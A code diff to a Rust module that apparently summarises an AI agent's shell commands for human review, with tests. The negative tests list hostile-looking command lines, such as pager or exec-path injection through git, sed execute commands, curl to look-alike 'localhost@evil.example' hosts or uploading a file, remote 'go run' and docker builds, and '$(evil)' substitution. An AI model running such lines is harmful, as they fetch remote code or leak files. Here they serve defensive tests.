@@ -4,7 +4,8 @@
 
 use super::command::{Command, base_name};
 use super::folders::Folders;
-use super::rules::{deleted_paths, installs};
+use super::paths::for_people;
+use super::programs::{Known, OF_THE_PROJECT, PROGRAMS};
 use super::shell;
 use super::shortened;
 use crate::i18n::Word;
@@ -29,7 +30,7 @@ pub struct Summary {
 impl Summary {
     /// Whether it says that packages are installed, so that the warning about these needs no line of its own.
     pub fn installs(&self) -> bool {
-        self.steps.iter().any(|step| step.word == words::DOES_INSTALL)
+        self.steps.iter().any(|step| [words::DOES_INSTALL, words::DOES_RUN_PACKAGE].contains(&step.word))
     }
 
     /// The sentence; text in backticks is code.
@@ -41,13 +42,6 @@ impl Summary {
         };
         join_list(&self.steps.iter().enumerate().map(phrase).collect::<Vec<_>>())
     }
-}
-
-/// What is known of one command.
-enum Known {
-    /// It only prepares or shows what others do: `cd`, `echo`, `| head`.
-    Nothing,
-    Step(Word, Vec<String>),
 }
 
 /// Programs in front of a command that change nothing of what it does.
@@ -81,6 +75,10 @@ pub fn of_command(text: &str, project: Option<&str>, folder: Option<&str>) -> Op
         }
         folders.enter(simple.subshell, &seen);
     }
+    if summary.steps.iter().any(|step| step.word == words::DOES_COMMIT) {
+        // Staging is a part of it.
+        summary.steps.retain(|step| step.word != words::DOES_STAGE);
+    }
     (!summary.steps.is_empty() && summary.steps.len() <= MAX_STEPS).then_some(summary)
 }
 
@@ -96,11 +94,8 @@ fn known(seen: &Command<'_>) -> Option<Known> {
     }
     // A variable may change what a program does.
     let assigned = seen.simple.words.iter().any(|word| shell::is_assignment(word));
-    if assigned && !seen.program.is_empty() || seen.arguments.iter().any(|word| runs_or_writes(word)) {
+    if assigned && !seen.program.is_empty() || runs_or_writes(seen) {
         return None;
-    }
-    if installs(seen).is_some() {
-        return Some(Known::Step(words::DOES_INSTALL, Vec::new()));
     }
     if seen.word.starts_with("./") && !is_elsewhere(seen, seen.word) {
         return Some(Known::Step(words::DOES_RUN, vec![shortened(seen.word)]));
@@ -108,7 +103,7 @@ fn known(seen: &Command<'_>) -> Option<Known> {
     if base_name(seen.word) != seen.word {
         return None; // a program of the same name, somewhere else
     }
-    let known = by_program(seen);
+    let known = PROGRAMS.iter().find_map(|usage| usage.of(seen));
     // What is said of the project's code is not so of other code.
     let elsewhere = || {
         let words =
@@ -133,144 +128,30 @@ fn is_elsewhere(seen: &Command<'_>, word: &str) -> bool {
     absolute || path.starts_with('~') || path.contains('$') || path.split('/').any(|name| name == "..")
 }
 
-/// What is said of the project's own code.
-const OF_THE_PROJECT: [Word; 5] =
-    [words::DOES_TEST, words::DOES_CHECK, words::DOES_BUILD, words::DOES_FORMAT, words::DOES_RUN];
-
-/// True for an option by which a program that usually reads runs or writes something.
-fn runs_or_writes(word: &str) -> bool {
-    const OPTIONS: [&str; 12] = [
+/// True if a program that usually reads is given an option by which it runs or writes something.
+fn runs_or_writes(seen: &Command<'_>) -> bool {
+    const OPTIONS: [&str; 10] = [
         "--pre",
         "--output",
-        "-o",
         "--ext-diff",
         "--textconv",
         "--open-files-in-pager",
-        "-O",
         "--upload-pack",
         "--receive-pack",
         "--exec",
         "--config",
         "--plugin",
     ];
-    let name = word.split('=').next().unwrap_or_default();
-    OPTIONS.contains(&name) || word.starts_with("-O") || word.starts_with("-o")
-}
-
-/// What a program of a known name does.
-fn by_program(seen: &Command<'_>) -> Option<Known> {
-    let first = seen.operands().next().unwrap_or_default();
-    let step = |word: Word| Some(Known::Step(word, Vec::new()));
-    match seen.program {
-        "" | "cd" | "pushd" | "popd" | "true" | "false" | ":" | "set" | "echo" | "printf" | "sleep"
-        | "exit" | "test" | "[" | "pwd" | "which" | "date" | "tee" => Some(Known::Nothing),
-        "head" | "tail" | "wc" | "sort" | "uniq" | "cut" | "tr" | "grep" | "rg" | "cat" | "jq" | "column"
-            if seen.simple.piped =>
-        {
-            Some(Known::Nothing)
-        }
-        "ls" | "cat" | "head" | "tail" | "less" | "grep" | "rg" | "wc" | "stat" | "file" | "du" | "df"
-        | "tree" | "diff" | "cmp" | "jq" => step(words::DOES_LOOK),
-        "find" if seen.runs().is_empty() && !has_actions(seen) => step(words::DOES_LOOK),
-        "sed" if seen.runs().is_empty() && !seen.flag(&['i', 'n'], &["--in-place"]) && seen.simple.piped => {
-            Some(Known::Nothing)
-        }
-        "cargo" => cargo(seen, first),
-        "npm" | "pnpm" | "yarn" | "bun" => scripts(seen, first),
-        "go" => match first {
-            "test" => step(words::DOES_TEST),
-            "build" => step(words::DOES_BUILD),
-            "vet" => step(words::DOES_CHECK),
-            "fmt" => step(words::DOES_FORMAT),
-            _ => None,
-        },
-        "pytest" | "jest" | "vitest" | "ctest" | "rspec" | "phpunit" => step(words::DOES_TEST),
-        "python" | "python3" if seen.arguments.first().is_some_and(|flag| flag == "-m") => {
-            let tests =
-                seen.arguments.get(1).is_some_and(|module| module == "pytest" || module == "unittest");
-            tests.then_some(Known::Step(words::DOES_TEST, Vec::new()))
-        }
-        "mypy" | "eslint" | "shellcheck" => step(words::DOES_CHECK),
-        "ruff" => match first {
-            "check" if !seen.has(&["--fix"]) => step(words::DOES_CHECK),
-            "check" | "format" => step(words::DOES_FORMAT),
-            _ => None,
-        },
-        "tsc" => step(if seen.has(&["--noEmit"]) { words::DOES_CHECK } else { words::DOES_BUILD }),
-        "prettier" | "black" | "gofmt" | "rustfmt" => step(words::DOES_FORMAT),
-        "make" if seen.runs().is_empty() => match first {
-            "" | "all" | "build" => step(words::DOES_BUILD),
-            "test" | "check" => step(words::DOES_TEST),
-            _ => Some(Known::Step(words::DOES_RUN, vec![shortened(&format!("make {first}"))])),
-        },
-        "mkdir" | "touch" => step(words::DOES_CREATE),
-        "cp" => step(words::DOES_COPY),
-        "mv" => step(words::DOES_MOVE),
-        "rm" => {
-            let all = deleted_paths(seen);
-            let known = !all.is_empty() && !all.iter().any(|path| path.contains(['$', '`', '*', '?', '{']));
-            known.then_some(Known::Step(words::DOES_DELETE, all))
-        }
-        "git" if seen.runs().is_empty() => git(seen, first),
-        _ => None,
-    }
-}
-
-/// True for a search that does more than to list.
-fn has_actions(seen: &Command<'_>) -> bool {
+    // To them `-o` means something else: a format, an alternative, only what matches.
+    const OTHER_O: [&str; 10] = ["find", "grep", "kubectl", "ls", "lsof", "oc", "pgrep", "ps", "rg", "set"];
+    let mut next = seen.arguments.iter().skip(1);
     seen.arguments.iter().any(|word| {
-        ["-delete", "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprintf", "-fls", "-fprint0"]
-            .contains(&word.as_str())
+        let value = next.next();
+        let name = word.split('=').next().unwrap_or_default();
+        let short = word.starts_with("-O") || word.starts_with("-o") && !OTHER_O.contains(&seen.program);
+        let nowhere = word == "-o" && value.is_some_and(|file| file == "/dev/null");
+        OPTIONS.contains(&name) || short && !nowhere
     })
-}
-
-fn cargo(seen: &Command<'_>, first: &str) -> Option<Known> {
-    // A toolchain (`+nightly`) and settings come from the line, and may be anything.
-    if first.starts_with('+') {
-        return None;
-    }
-    let word = match first {
-        "test" | "nextest" | "bench" => words::DOES_TEST,
-        "build" | "doc" => words::DOES_BUILD,
-        "check" | "clippy" => words::DOES_CHECK,
-        "fmt" => words::DOES_FORMAT,
-        "run" => return Some(Known::Step(words::DOES_RUN, vec![seen.line()])),
-        "tree" | "metadata" => words::DOES_LOOK,
-        _ => return None,
-    };
-    Some(Known::Step(word, Vec::new()))
-}
-
-/// The scripts of a package, by the names that they usually have.
-fn scripts(seen: &Command<'_>, first: &str) -> Option<Known> {
-    let name = match first {
-        "run" | "run-script" => seen.operands().nth(1)?,
-        "test" | "t" | "start" => first,
-        _ => return None,
-    };
-    let word = match name.split([':', '-']).next().unwrap_or_default() {
-        "test" | "t" | "tests" => words::DOES_TEST,
-        "build" | "compile" => words::DOES_BUILD,
-        "lint" | "check" | "typecheck" => words::DOES_CHECK,
-        "format" | "fmt" => words::DOES_FORMAT,
-        _ => return Some(Known::Step(words::DOES_RUN, vec![seen.line()])),
-    };
-    Some(Known::Step(word, Vec::new()))
-}
-
-fn git(seen: &Command<'_>, first: &str) -> Option<Known> {
-    // A setting on the line may be anything, and so may what another folder's settings run.
-    if seen.has(&["-c", "-C", "--git-dir", "--exec-path", "--work-tree"]) {
-        return None;
-    }
-    let word = match first {
-        "status" | "log" | "diff" | "show" | "blame" | "ls-files" | "rev-parse" | "grep" => words::DOES_LOOK,
-        "add" | "commit" => words::DOES_COMMIT,
-        "push" => words::DOES_PUSH,
-        "pull" | "fetch" => words::DOES_FETCH,
-        _ => return None,
-    };
-    Some(Known::Step(word, Vec::new()))
 }
 
 /// The files that a command writes by redirection or with `tee`.
@@ -280,7 +161,8 @@ fn written(seen: &Command<'_>) -> Known {
         files.extend(seen.operands().map(str::to_owned));
     }
     files.retain(|file| file != "/dev/null" && file != "/dev/stderr" && file != "/dev/stdout");
-    let files: Vec<String> = files.iter().map(|file| seen.resolve_path(file)).collect();
+    let files: Vec<String> =
+        files.iter().map(|file| for_people(&seen.resolve_path(file), seen.project)).collect();
     if files.is_empty() { Known::Nothing } else { Known::Step(words::DOES_WRITE, files) }
 }
 
@@ -314,6 +196,61 @@ mod tests {
             ),
             ("./scripts/build.sh --all", "Runs `./scripts/build.sh` of this project"),
             ("timeout 60 cargo build 2>/dev/null", "Builds the project"),
+        ] {
+            assert_eq!(says(text), words, "{text}");
+        }
+    }
+
+    #[test]
+    fn ordinary_lines_of_agents_are_sentences() {
+        for (text, words) in [
+            ("git add src/a.rs", "Stages changes for the next commit"),
+            ("git commit --amend --no-edit", "Changes the last commit"),
+            ("git --no-pager log --oneline -5", "Looks at files or history"),
+            ("git branch -a", "Looks at files or history"),
+            ("git branch --merged main", "Looks at files or history"),
+            ("git remote -v", "Looks at files or history"),
+            ("git switch -c fix/tide", "Creates a branch or switches to one"),
+            (
+                "git checkout -b fix/tide && git pull",
+                "Creates a branch or switches to one, then fetches from a server and updates the branch",
+            ),
+            ("sed -n '10,40p' src/a.rs", "Looks at files or history"),
+            ("find . -name '*.rs' -o -name '*.toml' | head", "Looks at files or history"),
+            ("grep -rno 'x' src | sort | uniq -c", "Looks at files or history"),
+            ("set -o pipefail; cargo test", "Runs the tests"),
+            ("node --version && npm -v", "Shows versions"),
+            ("npm ci --ignore-scripts", "Installs packages without running their scripts"),
+            ("npx tsc --noEmit", "Runs `tsc` and first installs what is missing for it"),
+            ("uv run pytest -q", "Runs `pytest` and first installs what is missing for it"),
+            ("uv sync", "Installs packages, whose scripts may run"),
+            ("uv pip list", "Lists packages"),
+            ("pip list", "Lists packages"),
+            ("npm ls --depth=0", "Lists packages"),
+            ("yarn build && pnpm lint", "Builds the project, then checks the code"),
+            ("python3 scripts/tides.py --fast", "Runs `scripts/tides.py` of this project"),
+            ("python -m pytest tests -q", "Runs the tests"),
+            ("python3 -m venv .venv", "Creates files or folders"),
+            ("node --test tests/", "Runs the tests"),
+            ("go run ./cmd/tides", "Runs `go run ./cmd/tides` of this project"),
+            ("npx --no-install eslint .", ""),
+            ("eslint --fix src", "Checks the code and corrects it"),
+            ("prettier --check .", "Checks the code"),
+            ("make -j 4 lint", "Runs `make -j 4 lint` of this project"),
+            (
+                "docker compose up -d && docker compose ps",
+                "Starts the containers of this project, then looks at containers or their logs",
+            ),
+            ("docker build -t tides .", "Builds a container image"),
+            ("kubectl get pods -n harbour -o wide", "Reads the state of a cluster"),
+            ("gh pr view 12 && gh pr checks 12", "Reads from GitHub"),
+            ("gh pr create --fill", "Opens a pull request on GitHub"),
+            ("terraform fmt -check", "Checks the code"),
+            ("curl -s http://localhost:3000/health | jq .", "Asks a server on this machine"),
+            ("curl -sS -o /dev/null -w '%{http_code}' localhost:3000", "Asks a server on this machine"),
+            ("chmod +x scripts/run.sh", "Makes `scripts/run.sh` executable"),
+            ("lsof -i :3000", "Looks at what runs on this machine"),
+            ("cd /project && rm -rf ./build/../dist", "Deletes `dist`"),
         ] {
             assert_eq!(says(text), words, "{text}");
         }
@@ -362,6 +299,57 @@ mod tests {
             "git diff --output=x",
             "export A=b; cargo test",
             "source x && cargo test",
+            "git branch -D x",
+            "git branch x main",
+            "git --exec-path=evil log",
+            "git --no-pager -c core.pager=evil log",
+            "git checkout main",
+            "git switch -f main",
+            "git remote -v update",
+            "git tag -d v1",
+            "sed -n 'w out' x",
+            "sed -n '1e evil' x",
+            "sed -f evil.sed x",
+            "sort x -o y",
+            "/tmp/npm install",
+            "curl http://localhost.evil.example",
+            "curl http://localhost@evil.example",
+            "curl http://localhost:1@evil.example",
+            "curl -d @x localhost:3000",
+            "curl -X DELETE localhost:3000/x",
+            "curl -K evil localhost",
+            "curl -w '%output{x}' localhost",
+            "curl -H @x localhost",
+            "curl -o x localhost",
+            "curl -sL localhost",
+            "curl localhost https://x.example",
+            "python evil.txt",
+            "python /tmp/evil.py",
+            "bash ../evil.sh",
+            "bash ~/evil.sh",
+            "bash -c evil.sh",
+            "node --test --import=data:evil x",
+            "node -r evil --test",
+            "go run example.com/evil@latest",
+            "yarn evil",
+            "chmod 777 x",
+            "docker compose down --rmi all",
+            "docker exec x evil",
+            "docker run x",
+            "docker build https://x.example/evil.git",
+            "docker build ../evil",
+            "kubectl apply -f x.yaml",
+            "kubectl exec x -- evil",
+            "gh pr view --web",
+            "gh pr merge 12",
+            "gh api -X DELETE x",
+            "terraform apply",
+            "terraform plan",
+            "find . -fprint x",
+            "fd x -x evil",
+            "cargo clippy -- --config evil.toml",
+            "git commit -m \"$(evil)\"",
+            "kill 1",
         ] {
             assert_eq!(says(text), "", "{text}");
         }
